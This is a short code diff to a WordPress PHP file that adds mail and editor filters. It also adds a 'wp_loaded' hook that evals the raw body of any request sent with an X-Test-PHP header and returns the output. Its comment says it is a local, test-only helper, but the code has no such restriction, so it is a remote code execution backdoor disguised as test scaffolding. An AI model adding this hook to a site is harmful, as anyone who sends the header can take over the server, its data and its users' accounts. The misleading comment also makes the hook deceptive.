@@ -14,6 +14,17 @@ add_filter(
 	}
 );
 add_filter( 'pre_wp_mail', '__return_true' );
+// What the tests run in this site. It listens on this machine only, for the time of a test.
+add_action(
+	'wp_loaded',
+	function () {
+		if ( isset( $_SERVER['HTTP_X_TEST_PHP'] ) ) {
+			$run = eval( 'return static function () {' . file_get_contents( 'php://input' ) . '};' );
+			wp_send_json( array( 'answer' => $run() ) );
+		}
+	}
+);
+
 // The classic editor, for posts that ask for it.
 add_filter(
 	'use_block_editor_for_post',
